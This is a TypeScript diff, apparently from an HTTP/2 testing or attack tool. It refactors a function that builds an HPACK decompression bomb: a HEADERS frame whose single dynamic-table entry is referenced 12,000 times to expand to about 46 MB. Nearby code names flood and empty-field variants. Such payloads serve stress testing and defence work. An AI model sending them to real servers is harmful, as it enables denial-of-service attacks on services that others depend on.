@@ -16,7 +16,7 @@ import {
   headers,
   HEADERS,
   hpack,
-  hpackInteger,
+  indexedField,
   PING,
   POST,
   PRIORITY,
@@ -220,14 +220,12 @@ export async function sendFloods(
 
 /** A head that names one entry of the dynamic table 12,000 times: 46 MB. */
 export function bomb(stream: number): Buffer {
-  const entry = Buffer.concat([
-    Buffer.of(0x40),
-    hpackInteger(1, 7, 0),
-    Buffer.from('a'),
-    hpackInteger(3900, 7, 0),
-    Buffer.alloc(3900, 'x'),
-  ]);
-  return frame(HEADERS, END_HEADERS | END_STREAM, stream, Buffer.concat([hpack(GET), entry, Buffer.alloc(12_000, 0xbe)]));
+  return frame(
+    HEADERS,
+    END_HEADERS | END_STREAM,
+    stream,
+    Buffer.concat([hpack(GET), indexedField('a', 'x'.repeat(3900)), Buffer.alloc(12_000, 0xbe)]),
+  );
 }
 
 /** A head with so many fields of no value. */
